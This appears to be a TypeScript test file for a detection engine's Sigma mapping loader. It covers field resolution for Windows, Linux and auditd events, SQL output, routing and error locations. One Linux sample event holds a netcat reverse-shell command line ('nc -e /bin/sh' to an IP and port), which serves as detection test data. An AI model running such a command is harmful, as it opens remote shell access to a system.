// Tests of the Sigma mapping loader: located errors for broken files, accessor resolution order, SQL and routing.
// Broken files are written to a temporary folder; the shipped mapping file is only read, never changed.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { VigilError } from '@vigil/common';
import { checkEvent } from '@vigil/schema';
import type { DetectEvent, Logsource } from '../core.js';
import { defaultSigmaMapping, defaultSigmaMappingPath } from './index.js';
import { loadSigmaMapping, unsupportedReason } from './sigma-mapping.js';

const windowsProcess: Logsource = { product: 'windows', category: 'process_creation' };
const linuxProcess: Logsource = { product: 'linux', category: 'process_creation' };

function validEvent(event: Record<string, unknown>): DetectEvent {
  const base = {
    '@timestamp': '2026-01-02T03:04:05.000Z',
    'event.id': '0b7e3a52-0c0e-4f55-9f43-7d1f3c0f5a11',
    'event.sequence': 1,
    'host.id': 'host-1',
    ...event,
  };
  const check = checkEvent(base, 'sample');
  assert.deepEqual(check.problems, [], 'the sample event must be valid under the schema');
  return base;
}

const sysmonProcess = validEvent({
  'event.category': 'process',
  'event.action': 'start',
  'event.provider': 'sysmon',
  'process.pid': 4242,
  'process.executable': 'C:\\Vigil\\normalised.exe',
  'process.command_line': 'normalised command line',
  'user.name': 'alice',
  'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
  'winlog.event_id': 1,
  'winlog.provider_name': 'Microsoft-Windows-Sysmon',
  'winlog.event_data': {
    Image: 'C:\\Windows\\System32\\cmd.exe',
    commandline: 'cmd.exe /c whoami',
    ProcessId: '4242',
    User: 'CORP\\alice',
    OriginalFileName: 'Cmd.Exe',
  },
});

const security4688 = validEvent({
  'event.category': 'process',
  'event.action': 'start',
  'event.provider': 'evtx',
  'process.pid': 1200,
  'process.executable': 'C:\\Windows\\System32\\whoami.exe',
  'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
  'process.command_line': 'whoami /all',
  'winlog.channel': 'Security',
  'winlog.event_id': 4688,
  'winlog.event_data': {
    NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    NewProcessId: '0x4b0',
    ProcessId: '0x1a4',
    SubjectUserName: 'alice',
  },
});

const linuxStart = validEvent({
  'event.category': 'process',
  'event.action': 'start',
  'event.provider': 'auditd',
  'process.pid': 31337,
  'process.executable': '/usr/bin/nc',
  'process.command_line': 'nc -e /bin/sh 10.0.0.1 4444',
  'process.parent.executable': '/bin/bash',
  'process.working_directory': '/tmp',
  'user.name': 'bob',
  'user.audit.id': '1000',
});

function read(field: string, logsource: Logsource, event: DetectEvent): unknown {
  const accessor = defaultSigmaMapping().resolver.resolve(field, logsource);
  assert.ok(accessor, `${field} must resolve under ${JSON.stringify(logsource)}`);
  return accessor.get(event);
}

test('the shipped mapping file loads, and defaultSigmaMapping caches it', () => {
  const mapping = loadSigmaMapping(defaultSigmaMappingPath());
  assert.ok(mapping.router.route(windowsProcess));
  assert.equal(defaultSigmaMapping(), defaultSigmaMapping());
});

test('Windows fields read the raw event data first, exactly and then case-insensitively', () => {
  assert.equal(read('Image', windowsProcess, sysmonProcess), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(read('image', windowsProcess, sysmonProcess), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(read('CommandLine', windowsProcess, sysmonProcess), 'cmd.exe /c whoami');
  assert.equal(read('User', windowsProcess, sysmonProcess), 'CORP\\alice');
  assert.equal(read('OriginalFileName', windowsProcess, sysmonProcess), 'Cmd.Exe');
  assert.equal(read('RuleName', windowsProcess, sysmonProcess), undefined);
});

test('Windows fields missing from the raw data fall back to the mapped Vigil field (Security 4688)', () => {
  assert.equal(read('Image', windowsProcess, security4688), 'C:\\Windows\\System32\\whoami.exe');
  assert.equal(read('ParentImage', windowsProcess, security4688), 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(read('CommandLine', windowsProcess, security4688), 'whoami /all');
  assert.equal(read('NewProcessName', windowsProcess, security4688), 'C:\\Windows\\System32\\whoami.exe');
  assert.equal(read('SubjectUserName', windowsProcess, security4688), 'alice');
});

test('Windows System fields read the winlog fields, never the event data', () => {
  assert.equal(read('EventID', windowsProcess, security4688), 4688);
  assert.equal(read('Channel', windowsProcess, security4688), 'Security');
  assert.equal(read('Provider_Name', windowsProcess, sysmonProcess), 'Microsoft-Windows-Sysmon');
  const shadowed = { ...security4688, 'winlog.event_data': { EventID: 'not the System block' } };
  assert.equal(read('EventID', windowsProcess, shadowed), 4688);
});

test('Vigil field names resolve to themselves under Sigma and Vigil-native logsources', () => {
  assert.equal(read('process.executable', windowsProcess, sysmonProcess), 'C:\\Vigil\\normalised.exe');
  assert.equal(read('process.executable', linuxProcess, linuxStart), '/usr/bin/nc');
  assert.equal(read('Process.Executable', linuxProcess, linuxStart), '/usr/bin/nc');
  assert.equal(read('process.command_line', { product: 'linux', category: 'process' }, linuxStart), 'nc -e /bin/sh 10.0.0.1 4444');
});

test('Linux process fields map to Vigil fields and unknown ones do not resolve', () => {
  assert.equal(read('Image', linuxProcess, linuxStart), '/usr/bin/nc');
  assert.equal(read('CommandLine', linuxProcess, linuxStart), 'nc -e /bin/sh 10.0.0.1 4444');
  assert.equal(read('ParentImage', linuxProcess, linuxStart), '/bin/bash');
  assert.equal(read('CurrentDirectory', linuxProcess, linuxStart), '/tmp');
  assert.equal(read('User', linuxProcess, linuxStart), 'bob');
  assert.equal(read('LogonId', linuxProcess, linuxStart), '1000');
  assert.equal(read('ProcessId', linuxProcess, linuxStart), 31337);
  const { resolver } = defaultSigmaMapping();
  assert.equal(resolver.resolve('Hashes', linuxProcess), undefined);
  assert.equal(resolver.resolve('TargetObject', linuxProcess), undefined);
  assert.equal(resolver.resolve('Image', { product: 'macos', category: 'process_creation' }), undefined);
});

test('translated fields give Sigma values for Vigil values', () => {
  const network = { product: 'linux', category: 'network_connection' };
  const connect = validEvent({ 'event.category': 'network', 'event.action': 'connect', 'network.type': 'ipv6', 'destination.ip': '2001:db8::1' });
  const accept = validEvent({ 'event.category': 'network', 'event.action': 'accept', 'network.type': 'ipv4' });
  assert.equal(read('Initiated', network, connect), 'true');
  assert.equal(read('Initiated', network, accept), 'false');
  assert.equal(read('DestinationIsIpv6', network, connect), 'true');
  assert.equal(read('DestinationIp', network, connect), '2001:db8::1');
  const sysmonNetwork = validEvent({
    'event.category': 'network',
    'event.action': 'accept',
    'winlog.channel': 'Microsoft-Windows-Sysmon/Operational',
    'winlog.event_data': { Initiated: 'true' },
  });
  assert.equal(read('Initiated', { product: 'windows', category: 'network_connection' }, sysmonNetwork), 'true');
});

test('auditd and sudo fields read key=value pairs of the raw record in message', () => {
  const auditd = { product: 'linux', service: 'auditd' };
  const execve = validEvent({
    'event.category': 'log',
    'event.action': 'syslog',
    'event.provider': 'auditd',
    message: 'type=EXECVE msg=audit(1700000000.123:42): argc=3 a0="dd" a1="if=/dev/zero" a2=6F663D2F746D702F78',
  });
  assert.equal(read('type', auditd, execve), 'EXECVE');
  assert.equal(read('a0', auditd, execve), 'dd');
  assert.equal(read('a1', auditd, execve), 'if=/dev/zero');
  assert.equal(read('a2', auditd, execve), '6F663D2F746D702F78');
  assert.equal(read('A0', auditd, execve), 'dd');
  assert.equal(read('a3', auditd, execve), undefined);
  const syscall = validEvent({
    'event.category': 'log',
    'event.provider': 'auditd',
    'event.action': 'syslog',
    message: 'type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 success=yes exe="/usr/bin/dd" key="susp"\x1dARCH=x86_64 SYSCALL=execve',
  });
  assert.equal(read('SYSCALL', auditd, syscall), 'execve');
  assert.equal(read('syscall', auditd, syscall), '59');
  assert.equal(read('exe', auditd, syscall), '/usr/bin/dd');
  assert.equal(read('key', auditd, syscall), 'susp');
  const sudo = validEvent({
    'event.category': 'log',
    'event.action': 'syslog',
    'log.syslog.appname': 'sudo',
    message: 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id',
  });
  assert.equal(read('USER', { product: 'linux', service: 'sudo' }, sudo), '#-1');
});

test('accessors are cached and share keys when they read the same thing', () => {
  const { resolver } = defaultSigmaMapping();
  const image = resolver.resolve('Image', windowsProcess);
  assert.equal(resolver.resolve('Image', windowsProcess), image);
  assert.equal(resolver.resolve('IMAGE', windowsProcess)?.key, image?.key);
  assert.equal(resolver.resolve('Image', { product: 'windows', category: 'file_event' })?.key, image?.key);
  assert.equal(resolver.resolve('Image', linuxProcess)?.key, resolver.resolve('process.executable', linuxProcess)?.key);
  assert.notEqual(resolver.resolve('ParentImage', windowsProcess)?.key, image?.key);
  assert.notEqual(resolver.resolve('OriginalFileName', windowsProcess)?.key, resolver.resolve('OriginalFileName', { product: 'windows', category: 'image_load' })?.key);
});

test('accessor SQL reads the events view columns', () => {
  const { resolver } = defaultSigmaMapping();
  const sql = (field: string, logsource: Logsource) => resolver.resolve(field, logsource)?.sql;
  const raw = (name: string) =>
    `json_extract_string("winlog.event_data", '$."${name}"'), ` +
    `json_extract_string("winlog.event_data", list_filter(json_keys("winlog.event_data"), lambda k: replace(lower(k), ' ', '') = '${name.toLowerCase()}')[1])`;
  assert.equal(sql('Image', windowsProcess), `coalesce(${raw('Image')}, "process.executable")`);
  assert.equal(sql('image', windowsProcess), `coalesce(${raw('Image')}, "process.executable")`);
  assert.equal(sql('ProcessId', windowsProcess), `coalesce(${raw('ProcessId')}, CAST("process.pid" AS VARCHAR))`);
  assert.equal(sql('RuleName', windowsProcess), `coalesce(${raw('RuleName')})`);
  assert.equal(sql('EventID', windowsProcess), `"winlog.event_id"`);
  assert.equal(
    sql("Odd'Name\"", windowsProcess),
    `coalesce(json_extract_string("winlog.event_data", '$."Odd''Name\\""'), ` +
      `json_extract_string("winlog.event_data", list_filter(json_keys("winlog.event_data"), lambda k: replace(lower(k), ' ', '') = 'odd''name"')[1]))`,
  );
  assert.equal(sql('Image', linuxProcess), `"process.executable"`);
  assert.equal(sql('Initiated', { product: 'linux', category: 'network_connection' }), `CASE CAST("event.action" AS VARCHAR) WHEN 'connect' THEN 'true' WHEN 'accept' THEN 'false' END`);
  const pair = (flags: string) => `nullif(trim(regexp_extract("message", '${flags}(?:^|[\\s''";,\\x1d])a0=("[^"]*"|[^\\s''";,\\x1d]*)', 1), '"'), '')`;
  assert.equal(sql('a0', { product: 'linux', service: 'auditd' }), `coalesce(${pair('')}, ${pair('(?i)')})`);
});

test('keyword fields cover raw Windows values and the text fields of the logsource', () => {
  const { resolver } = defaultSigmaMapping();
  const fields = resolver.keywordFields(windowsProcess);
  assert.deepEqual(
    fields.map((field) => field.key),
    ['winlog.event_data[*]', 'message', 'process.command_line', 'process.executable', 'process.parent.command_line', 'process.parent.executable'],
  );
  assert.deepEqual(fields[0]?.get(security4688), ['C:\\Windows\\System32\\whoami.exe', 'C:\\Windows\\System32\\cmd.exe', '0x4b0', '0x1a4', 'alice']);
  const visited: unknown[] = [];
  fields[0]?.forEachValue?.(security4688, (value) => visited.push(value));
  assert.deepEqual(visited, fields[0]?.get(security4688), 'forEachValue visits what get returns, without building it');
  fields[0]?.forEachValue?.({ ...security4688, 'winlog.event_data': undefined }, (value) => visited.push(value));
  assert.equal(visited.length, 5, 'nothing visited without event data');
  assert.equal(fields[0]?.sql, `json_extract_string("winlog.event_data", '$.*')`);
  assert.deepEqual(resolver.keywordFields({ product: 'linux' }).map((field) => field.key), ['message']);
  assert.deepEqual(resolver.keywordFields({ product: 'aws', service: 'cloudtrail' }), []);
});

test('routes name categories and exact-value conditions', () => {
  const { router } = defaultSigmaMapping();
  assert.deepEqual(router.route(windowsProcess), {
    categories: ['process'],
    conditions: [
      { field: 'event.action', anyOf: ['start'] },
      { field: 'winlog.channel', anyOf: ['Microsoft-Windows-Sysmon/Operational', 'Security'] },
      { field: 'winlog.event_id', anyOf: [1, 4688] },
    ],
  });
  assert.deepEqual(router.route({ product: 'Windows', service: 'Security' }), {
    categories: ['authentication', 'process', 'service', 'autostart', 'iam', 'log'],
    conditions: [{ field: 'winlog.channel', anyOf: ['Security'] }],
  });
  assert.deepEqual(router.route({ product: 'windows', category: 'ps_classic_start' })?.conditions, [
    { field: 'winlog.channel', anyOf: ['Windows PowerShell'] },
    { field: 'winlog.event_id', anyOf: [400] },
  ]);
  assert.deepEqual(router.route({ product: 'linux', service: 'sshd' })?.conditions, [
    { field: 'event.action', anyOf: ['syslog'] },
    { field: 'log.syslog.appname', anyOf: ['sshd'] },
  ]);
  assert.deepEqual(router.route({ product: 'linux', category: 'iam' }), { categories: ['iam'], conditions: [], absent: ['winlog.channel'] });
  assert.deepEqual(router.route({ product: 'linux', category: 'process_creation' })?.absent, ['winlog.channel'], 'Linux rules never see Windows events');
  assert.equal(router.route({ product: 'macos', category: 'process_creation' }), undefined);
  assert.equal(router.route({ product: 'windows', category: 'no_such_category' }), undefined);
});

test('unsupported logsources carry the documented reason', () => {
  const mapping = defaultSigmaMapping();
  assert.match(unsupportedReason(mapping, { product: 'macos', category: 'file_event' }) ?? '', /macOS/);
  assert.match(unsupportedReason(mapping, { category: 'proxy' }) ?? '', /proxy/);
  assert.equal(unsupportedReason(mapping, windowsProcess), undefined);
  assert.equal(unsupportedReason(mapping, { product: 'windows', category: 'no_such_category' }), undefined);
});

const validHead = `version: 1
field_groups:
  proc:
    fields:
      Image: process.executable
logsources:
  - match: { product: linux, category: process_creation }
    categories: [process]
    conditions: { event.action: [start] }
    field_groups: [proc]
    keywords: [message]
`;

interface BrokenCase {
  name: string;
  text: string;
  line: number;
  column: number;
  message: RegExp;
}

const brokenCases: BrokenCase[] = [
  { name: 'YAML syntax', text: `version: 1\nlogsources: [ { match: { product: linux }\n`, line: 3, column: 1, message: /YAML/ },
  { name: 'duplicate key', text: `version: 1\nversion: 1\nlogsources: []\n`, line: 2, column: 1, message: /YAML/ },
  { name: 'wrong version', text: `version: 2\nlogsources: []\n`, line: 1, column: 10, message: /version must be 1/ },
  { name: 'unknown top-level key', text: `version: 1\nlogsources: []\nroutes: []\n`, line: 3, column: 1, message: /unknown key routes/ },
  {
    name: 'unknown Vigil field in a group',
    text: validHead.replace('Image: process.executable', 'Image: process.exe_path'),
    line: 5,
    column: 14,
    message: /process\.exe_path, which is not a Vigil field of categories process/,
  },
  {
    name: 'field that exists in the schema but not in the routed category',
    text: validHead.replace('Image: process.executable', 'Image: registry.path'),
    line: 5,
    column: 14,
    message: /registry\.path, which is not a Vigil field of categories process/,
  },
  { name: 'unknown category', text: validHead.replace('categories: [process]', 'categories: [processes]'), line: 8, column: 18, message: /unknown Vigil category processes/ },
  { name: 'unknown action', text: validHead.replace('event.action: [start]', 'event.action: [begin]'), line: 9, column: 34, message: /event\.action begin is not an action/ },
  { name: 'unknown condition field', text: validHead.replace('event.action: [start]', 'event.verb: [start]'), line: 9, column: 19, message: /condition on event\.verb/ },
  { name: 'unknown field group', text: validHead.replace('field_groups: [proc]', 'field_groups: [procs]'), line: 10, column: 20, message: /unknown field group procs/ },
  { name: 'unknown keyword field', text: validHead.replace('keywords: [message]', 'keywords: [messages]'), line: 11, column: 16, message: /keyword field messages/ },
  { name: 'bad raw source', text: validHead.replace('keywords: [message]', 'raw: evtx'), line: 11, column: 10, message: /raw must be one of/ },
  { name: 'unknown entry key', text: validHead.replace('keywords: [message]', 'keyword: [message]'), line: 11, column: 5, message: /unknown key keyword/ },
  {
    name: 'duplicate logsource',
    text: `${validHead}  - match: { category: process_creation, product: Linux }\n    categories: [process]\n`,
    line: 12,
    column: 12,
    message: /listed twice/,
  },
  {
    name: 'unsupported entry that covers a routed logsource',
    text: `${validHead}unsupported:\n  - { match: { product: linux }, reason: no }\n`,
    line: 13,
    column: 14,
    message: /also covers the routed logsource/,
  },
  { name: 'unsupported entry without reason', text: `${validHead}unsupported:\n  - { match: { product: macos } }\n`, line: 13, column: 5, message: /needs a reason/ },
  { name: 'empty match', text: `version: 1\nlogsources:\n  - match: {}\n`, line: 3, column: 12, message: /names no product/ },
  {
    name: 'translated target without values',
    text: validHead.replace('Image: process.executable', 'Image: { field: process.executable }'),
    line: 5,
    column: 14,
    message: /translated target needs field/,
  },
];

test('broken mapping files give located invalid_config errors', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-sigma-mapping-'));
  try {
    const good = join(dir, 'good.yml');
    writeFileSync(good, validHead);
    assert.ok(loadSigmaMapping(good).router.route(linuxProcess), 'the base of the broken cases must itself load');
    for (const broken of brokenCases) {
      const file = join(dir, `${broken.name.replaceAll(' ', '-')}.yml`);
      writeFileSync(file, broken.text);
      assert.throws(
        () => loadSigmaMapping(file),
        (error: unknown) => {
          assert.ok(error instanceof VigilError, `${broken.name}: expected a VigilError`);
          assert.equal(error.code, 'invalid_config', broken.name);
          assert.match(error.message, broken.message, broken.name);
          assert.deepEqual(error.location, { file, line: broken.line, column: broken.column }, `${broken.name}: ${error.message}`);
          return true;
        },
      );
    }
    assert.throws(() => loadSigmaMapping(join(dir, 'missing.yml')), (error: unknown) => error instanceof VigilError && error.code === 'invalid_config');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
